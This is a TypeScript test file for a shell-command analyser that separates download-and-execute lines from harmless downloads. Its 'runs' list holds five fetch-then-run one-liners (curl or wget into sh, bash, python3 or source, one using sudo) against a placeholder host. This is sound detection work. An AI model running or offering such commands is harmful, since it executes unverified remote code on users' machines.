import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readShell } from './shell.ts';

const runs: readonly string[] = [
  'curl -O https://x.example/tool && ./tool',
  'wget https://x.example/i.sh && sh i.sh',
  'wget -O /tmp/i.sh https://x.example/a?b=1; sudo bash /tmp/i.sh',
  'curl -fsSLo setup.py https://x.example/setup.py && python3 setup.py',
  'curl -o i.sh https://x.example/i.sh; source i.sh',
];
const keeps: readonly string[] = [
  'wget https://x.example/i.sh && sh test.sh',
  'curl https://x.example/data.json | jq .',
  'curl -o data.json https://x.example/data.json && node build.js',
  'sh i.sh',
  'wget https://x.example/a.tgz && tar xzf a.tgz',
];

test('what was fetched and is then started is told from what is fetched and kept', () => {
  const isTold = (line: string) => readShell(line).facts.has('downloads_and_runs');
  assert.deepEqual(
    runs.filter((line) => !isTold(line)),
    [],
  );
  assert.deepEqual(keeps.filter(isTold), []);
});
